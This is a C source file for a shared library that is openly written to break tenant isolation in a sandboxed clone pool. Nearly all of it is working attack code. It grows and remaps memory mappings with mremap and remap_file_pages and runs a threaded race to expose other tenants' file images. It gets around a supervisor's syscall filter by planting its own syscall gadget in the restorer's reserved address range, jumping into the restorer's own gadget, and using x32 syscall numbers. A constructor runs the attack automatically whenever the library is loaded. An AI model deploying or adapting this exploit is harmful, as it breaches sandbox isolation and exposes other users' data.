/* Tries to reach more of a pool than what a clone maps of its own image: other tenants' images.
 *
 *   cc -shared -fPIC -O1 -pthread -o neighbours.so neighbours.c
 *
 * attack(images, report, bytes) appends a line for each way in which a mapping of a file below `images`
 * grew or showed another part of it, and ends with "tried N". Each attempt is made in a process of its own. Loaded by a
 * program that cannot call it (Node.js), it takes its arguments from /tmp/neighbours.of and answers in
 * /tmp/neighbours.report.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096UL
#define FAR (64UL << 20)
/* The addresses that the restorer keeps for itself in a clone. */
#define WINDOW 0x4f0000000000UL
#define WINDOW_END 0x4f0100000000UL
#define MOST 64

struct mapping {
    uint64_t start, end, offset;
    int is_readable, is_executable, is_file;
};

struct attempt {
    struct mapping *of;
    int way, kind;
};

static const char *images;

static int mappings(struct mapping *all, int most)
{
    char line[4600], perms[8], path[4400];
    FILE *maps = fopen("/proc/self/maps", "r");
    int count = 0;
    while (maps && count < most && fgets(line, sizeof line, maps)) {
        struct mapping *m = &all[count];
        path[0] = 0;
        if (sscanf(line, "%lx-%lx %7s %lx %*s %*s %4399[^\n]", &m->start, &m->end, perms, &m->offset, path) < 4)
            continue;
        m->is_readable = perms[0] == 'r';
        m->is_executable = perms[2] == 'x';
        m->is_file = strncmp(path, images, strlen(images)) == 0;
        count++;
    }
    if (maps)
        fclose(maps);
    return count;
}

/* The bytes of images that are mapped: more of them is success. */
static uint64_t mapped_bytes(void)
{
    static struct mapping all[20000];
    uint64_t sum = 0;
    for (int i = 0, n = mappings(all, 20000); i < n; i++)
        sum += all[i].is_file ? all[i].end - all[i].start : 0;
    return sum;
}

typedef long call6(long nr, long a, long b, long c, long d, long e);

/* A `syscall; ret` of our own, where the supervisor's filter takes calls for the restorer's. */
static long own_gate(long nr, long a, long b, long c, long d, long e)
{
    static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89,
                                         0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x0f, 0x05, 0xc3};
    for (uint64_t at = WINDOW + 0x80000000UL; at < WINDOW_END; at += 0x1000000) {
        void *page = mmap((void *)at, PAGE, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
        if (page != (void *)at)
            continue;
        memcpy(page, code, sizeof code);
        return ((call6 *)page)(nr, a, b, c, d, e);
    }
    return -ENOSYS;
}

static sigjmp_buf after;
static volatile long returned;

static void trapped(int signal, siginfo_t *info, void *context)
{
    (void)signal, (void)info, (void)context;
    siglongjmp(after, 1);
}

/* The restorer's own `syscall; ud2`: the SIGILL that follows is survived. */
static long restorers_gate(long nr, long a, long b, long c, long d, long e)
{
    static struct mapping all[20000];
    struct sigaction action = {.sa_sigaction = trapped, .sa_flags = SA_SIGINFO | SA_NODEFER};
    sigaction(SIGILL, &action, NULL);
    sigaction(SIGSEGV, &action, NULL);
    for (int i = 0, n = mappings(all, 20000); i < n; i++) {
        struct mapping *m = &all[i];
        if (m->start < WINDOW || m->start >= WINDOW_END || !m->is_readable || !m->is_executable)
            continue;
        unsigned char *found = memmem((void *)m->start, m->end - m->start, "\x0f\x05\x0f\x0b", 4);
        if (!found)
            continue;
        if (sigsetjmp(after, 1) == 0) {
            register long r10 __asm__("r10") = d;
            register long r8 __asm__("r8") = e;
            __asm__ volatile("jmp *%1"
                             :
                             : "a"(nr), "r"(found), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                             : "rcx", "r11", "memory");
        }
        return 0; /* what it did is seen in the mappings */
    }
    return -ENOSYS;
}

static long by_libc(long nr, long a, long b, long c, long d, long e)
{
    long result = syscall(nr, a, b, c, d, e);
    return result == -1 ? -errno : result;
}

static long x32(long nr, long a, long b, long c, long d, long e)
{
    return by_libc(nr | 0x40000000, a, b, c, d, e);
}

static call6 *const ways[] = {by_libc, own_gate, restorers_gate, x32};
static const char *const way_names[] = {"libc", "own gate", "restorer's gate", "x32"};

struct race {
    pthread_barrier_t start;
    uint64_t page, to;
};

static void *mover(void *argument)
{
    struct race *race = argument;
    pthread_barrier_wait(&race->start);
    syscall(SYS_mremap, race->page, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, race->to);
    return NULL;
}

/* One thread moves a page of the image to X while another grows what was anonymous at X. */
static void race(const struct mapping *of)
{
    uint64_t before = mapped_bytes();
    for (uint64_t page = of->end - PAGE; page > of->start; page -= PAGE) {
        struct race race = {.page = page};
        pthread_t thread;
        char *x = mmap(NULL, 2 * PAGE, 3, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        munmap(x + PAGE, PAGE);
        race.to = (uint64_t)x;
        pthread_barrier_init(&race.start, NULL, 2);
        pthread_create(&thread, NULL, mover, &race);
        pthread_barrier_wait(&race.start);
        void *grown = mremap(x, PAGE, FAR, MREMAP_MAYMOVE);
        pthread_join(thread, NULL);
        if (mapped_bytes() > before || page + 400 * PAGE < of->end)
            return;
        if (grown != MAP_FAILED)
            munmap(grown, FAR);
    }
}

static const char *const kinds[] = {"grow by a page", "grow far", "grow and move", "from no length",
                                    "from a length that wraps", "grow and keep", "remap_file_pages", "race"};

static void try(const struct attempt *attempt)
{
    call6 *call = ways[attempt->way];
    long at = attempt->of->start, bytes = attempt->of->end - attempt->of->start;
    long free_at = (long)mmap(NULL, bytes + FAR, 0, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    switch (attempt->kind) {
    case 0: call(SYS_mremap, at, bytes, bytes + PAGE, MREMAP_MAYMOVE, 0); break;
    case 1: call(SYS_mremap, at, bytes, bytes + FAR, MREMAP_MAYMOVE, 0); break;
    case 2: call(SYS_mremap, at, bytes, bytes + FAR, MREMAP_MAYMOVE | MREMAP_FIXED, free_at); break;
    case 3: call(SYS_mremap, at, 0, bytes + FAR, MREMAP_MAYMOVE, 0); break;
    case 4: call(SYS_mremap, at, -1, bytes + FAR, MREMAP_MAYMOVE, 0); break;
    case 5: call(SYS_mremap, at, bytes, bytes + FAR, MREMAP_MAYMOVE | MREMAP_DONTUNMAP, 0); break;
    case 6: call(SYS_remap_file_pages, at, bytes, 0, attempt->of->offset / PAGE + 512, 0); break;
    case 7: race(attempt->of); break;
    }
}

/* Whether more of an image is mapped afterwards, or other parts of it; -1 if the attempt was the last. */
static int succeeds(const struct attempt *attempt)
{
    int status;
    pid_t child = fork();
    if (child == 0) {
        uint64_t before = mapped_bytes();
        alarm(10);
        try(attempt);
        _exit(mapped_bytes() > before ? 42 : 0);
    }
    if (child < 0 || waitpid(child, &status, 0) != child)
        return -1;
    return WIFEXITED(status) && WEXITSTATUS(status) == 42;
}

int attack(const char *of, char *report, size_t bytes)
{
    static struct mapping all[20000], ours[MOST];
    int tried = 0, count = 0;
    size_t used = 0;
    images = of;
    report[0] = 0;
    for (int i = 0, n = mappings(all, 20000); i < n && count < MOST; i++)
        if (all[i].is_file && all[i].is_readable)
            ours[count++] = all[i];
    for (int way = 0; way < 4; way++) {
        for (int kind = 0; kind < 8; kind++) {
            /* The race needs time, and no gate. */
            int most = kind == 7 ? (way == 0 ? 2 : 0) : 6;
            for (int i = 0; i < count && i < most; i++) {
                struct attempt attempt = {&ours[i], way, kind};
                tried++;
                if (succeeds(&attempt) && used + 200 < bytes)
                    used += snprintf(report + used, bytes - used, "%s: %s, %lx-%lx\n", way_names[way],
                                     kinds[kind], ours[i].start, ours[i].end);
            }
        }
    }
    snprintf(report + used, bytes - used, "tried %d\n", tried);
    return 0;
}

__attribute__((constructor)) static void loaded(void)
{
    static char of[4096], report[1 << 16];
    FILE *asked = fopen("/tmp/neighbours.of", "r"), *answer;
    if (!asked)
        return;
    if (fgets(of, sizeof of, asked) && (answer = fopen("/tmp/neighbours.report", "w"))) {
        attack(of, report, sizeof report);
        fputs(report, answer);
        fclose(answer);
    }
    fclose(asked);
}
